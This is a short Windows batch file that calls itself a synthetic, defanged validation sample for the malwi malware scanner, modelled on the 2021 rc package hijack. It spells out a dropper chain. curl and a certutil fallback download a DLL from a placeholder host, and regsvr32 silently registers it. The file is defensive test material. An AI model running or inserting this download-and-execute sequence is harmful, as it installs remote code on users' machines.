REM SYNTHETIC, DEFANGED malwi validation sample - modelled on rc hijack (2021); never run.
@echo off
curl https://cdn-stage2.example.invalid/sdd.dll -o compile.dll
if not exist compile.dll (
    certutil.exe -urlcache -f https://cdn-stage2.example.invalid/sdd.dll compile.dll
)
regsvr32.exe -s compile.dll
